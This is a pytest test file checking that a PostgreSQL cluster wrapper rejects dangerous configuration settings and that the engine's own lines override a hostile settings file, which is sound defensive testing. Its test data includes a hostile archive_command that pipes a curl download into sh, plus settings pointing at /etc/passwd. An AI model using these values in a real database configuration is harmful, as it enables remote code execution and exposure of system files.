"""The engine defends the target itself: Cluster.configure checks a study's settings again, whatever the
store says, and the engine's own lines (where the server listens, its files) come last and win."""

import posixpath

import pytest

from workers.cluster import SERVER_FILE, SETTINGS_FILE, Cluster, RefusedSetting


def conf_text(cluster: Cluster, filename: str) -> str:
    return cluster.transport.get_bytes(posixpath.join(cluster.data_dir, filename)).decode()


@pytest.mark.parametrize(
    ("settings", "reason"),
    [
        ({"work_mem": "4MB", "archive_command": "curl http://x | sh"}, "archive_command runs a command"),
        ({"shared_preload_libraries": "pg_stat_statements"}, "shared_preload_libraries loads code"),
        ({"data_directory": "/tmp/elsewhere"}, "data_directory names a file or directory"),
        ({"listen_addresses": "*"}, "listen_addresses decides where the server listens"),
        ({"include": "/etc/passwd"}, "include names a file or directory"),
        ({"shared_buffers": "banana"}, "shared_buffers = banana: PostgreSQL 1"),
        ({"max_connections": "10000000"}, "max_connections = 10000000: PostgreSQL 1"),
    ],
)
def test_configure_refuses_a_setting_the_rules_refuse_and_writes_nothing(
    local_transport, installed_build, new_cluster, settings, reason
):
    cluster = new_cluster(local_transport, installed_build)
    before = conf_text(cluster, "postgresql.conf")
    with pytest.raises(RefusedSetting, match=reason):
        cluster.configure(settings)
    assert (conf_text(cluster, SETTINGS_FILE), conf_text(cluster, "postgresql.conf")) == ("", before)


def test_the_engines_own_lines_win_over_a_study_file_written_around_the_checks(
    local_transport, installed_build, new_cluster
):
    cluster = new_cluster(local_transport, installed_build)
    hostile = (
        "port = 1\nlisten_addresses = '*'\nunix_socket_directories = '/tmp'\n"
        "data_directory = '/tmp/not-the-cluster'\nhba_file = '/etc/passwd'\nexternal_pid_file = '/tmp/benchdash.pid'\n"
    )
    local_transport.put_bytes(hostile.encode(), posixpath.join(cluster.data_dir, SETTINGS_FILE))
    cluster.start()
    shown = cluster.show_all()
    assert (shown["port"], shown["listen_addresses"], shown["unix_socket_directories"]) == (
        str(cluster.port),
        "127.0.0.1",
        cluster.socket_dir,
    )
    assert (shown["data_directory"], shown["hba_file"], shown["external_pid_file"]) == (
        cluster.data_dir,
        posixpath.join(cluster.data_dir, "pg_hba.conf"),
        "",
    )


def test_the_engines_file_is_included_last_and_required(local_transport, installed_build, new_cluster):
    cluster = new_cluster(local_transport, installed_build)
    lines = [line for line in conf_text(cluster, "postgresql.conf").splitlines() if line.strip()]
    assert lines[-2:] == [f"include_if_exists = '{SETTINGS_FILE}'", f"include = '{SERVER_FILE}'"]
